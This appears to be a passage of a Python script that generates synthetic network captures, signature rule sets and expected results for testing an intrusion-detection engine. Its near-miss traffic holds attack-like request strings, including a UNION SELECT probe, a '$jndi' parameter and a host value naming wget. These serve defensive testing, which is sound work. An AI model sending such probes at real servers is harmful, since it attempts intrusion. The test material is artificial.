    sig(f, 2100080, 2)
    f = web(h, T(), pc, ip2, "tracker.example.org", "/dl", ok,
            ua="Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1")
    sig(f, 2100083, 2)

    # ---- near misses
    web(m, T(), pc, ip2, "download.windowsupdate.com", "/c/msdownload/kb.exe",
        http_rsp(pe_file(rng)))
    web(m, T(), pc, ip2, "tools.example.org", "/putty.zip",
        http_rsp(b"PK\x03\x04" + rb(rng, 900), "application/zip"))
    web(m, T(), pc, ip1, ip1, "/x/readme.txt", http_rsp(b"MZ is a text file " + rb(rng, 300), "text/plain"))
    m.tcp(T(), pc, ip1, 443, [(True, b"\x16\x03\x01" + rb(rng, 200)), (False, rb(rng, 3000))])
    web(m, T(), pc, ip2, "mirror.example.org", "/tool.tar", http_rsp(rb(rng, 2000), "application/x-tar"))
    web(m, T(), pc, ip2, "cdn.example.org", "/app.js",
        http_rsp(b"function init(x) {\n  var set = 1;\n  return x;\n}\n", "application/javascript"))
    web(m, T(), atk, srv, "www.office.example", "/news.php?id=7&title=union-and-select-committees", ok)
    web(m, T(), atk, srv, "www.office.example", "/login.php?user=o%27brien", ok)
    web(m, T(), atk, srv, "www.office.example", "/search?q=javascript%20tutorial", ok)
    web(m, T(), atk, srv, "www.office.example", "/docs/v1.2..3/index.html", ok)
    web(m, T(), atk, srv, "www.office.example", "/etc/passwords-policy.html", ok)
    web(m, T(), atk, srv, "www.office.example", "/ping.php?host=wget.example.org", ok)
    web(m, T(), atk, srv, "www.office.example", "/?x=$jndi", ok)
    web(m, T(), pc, ip2, "www.example.org", "/news.php?id=1%20UNION%20SELECT%201", ok)  # outbound
    web(m, T(), pc, ip1, ip1 + ":8443", "/gate.php", ok, sport=8443)       # GET, not POST
    web(m, T(), pc, ip1, ip1, "/gate.php", ok, method="POST", body=b"a=b")  # port 80
    return [hit, neg]


def write_rulesets(outdir):
    """Write every rule set directory; returns rules_check truth."""
    rs = os.path.join(outdir, "rulesets")

    def put(rel, text):
        path = os.path.join(rs, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
    for name, text in SIG_RULES.items():
        put("sig/" + name, text)
    put("sig/classification.config", SIG_CLASSIFICATION)
    for name, text in IOC_FILES.items():
        put("ioc/ioc/" + name, text)
    put("behav/detectors.conf", DETECTORS_CONF)
    put("suppress_rules/suppress.rules", SUPPRESS_RULES)
    put("suppress_rules/ioc/sup.txt", SUPPRESS_IOC)
    put("suppress_rules/detectors.conf", SUPPRESS_DETECTORS)
    put("suppress/suppress.conf", SUPPRESS_CONF)
    check = {}
    n_sigs = sum(len([ln for ln in t.replace("\\\n", "").splitlines()
                      if ln.startswith("alert ")]) for t in SIG_RULES.values())
    check["tests/detect/rulesets/sig"] = {
        "exit": 0, "summary": {"signatures": n_sigs, "signature_files":
                               len(SIG_RULES), "detectors": 0,
                               "suppressions": 0, "problems": 0}}
    ic = dict(IOC_COUNTS)
    ic.update({"lists": len(IOC_FILES), "signatures": 0, "problems": 0,
               "duplicates": 0})
    check["tests/detect/rulesets/ioc"] = {"exit": 0, "summary": ic}
    check["tests/detect/rulesets/behav"] = {
        "exit": 0, "summary": {"detectors": 6, "signatures": 0,
                               "problems": 0}}
    check["tests/detect/rulesets/suppress_rules"] = {
        "exit": 0, "summary": {"signatures": 4, "domain": 1, "detectors": 1,
                               "problems": 0}}
    check["tests/detect/rulesets/suppress"] = {
        "exit": 0, "summary": {"suppressions": 5, "problems": 0}}
    check["rules/default"] = {"exit": 0, "summary": {"problems": 0}}
    for name, (files, msgs) in sorted(BAD_SETS.items()):
        for rel, text in files.items():
            put("bad/%s/%s" % (name, rel), text)
        check["tests/detect/rulesets/bad/" + name] = {"exit": 1,
                                                      "messages": msgs}
    return check


def main():
    outdir = sys.argv[1] if len(sys.argv) > 1 else "tests/detect"
    os.makedirs(outdir, exist_ok=True)
    caps = gen_sig_header() + gen_sig_options() + gen_sig_app() + \
        gen_sig_buffers() + gen_sig_threshold() + gen_sig_payload() + \
        gen_sig_etlike() + gen_default_payload() + gen_ioc() + gen_behav()
    sup = gen_suppress()
    benign = gen_benign()
    caps += [sup, benign]
    truth, total = {}, 0
    for c in caps:
        path = c.write(outdir)
        total += os.path.getsize(path)
        truth[c.name] = c.truth()
    truth["suppress.pcap#unsuppressed"] = unsuppressed_truth(sup)
    truth["rules_check"] = write_rulesets(outdir)
    # tests/fixtures/*.pcap under rules/default: none may alert, except
    # what is listed here (capture -> {"expect": [...], "comment": why})
    truth["default_fixtures"] = {}
    with open(os.path.join(outdir, "truth.json"), "w") as f:
        json.dump(truth, f, indent=1, sort_keys=True)
        f.write("\n")
    print("wrote %d captures (%d bytes), rule sets and truth.json to %s" %
          (len(caps), total, outdir))


if __name__ == "__main__":
    main()
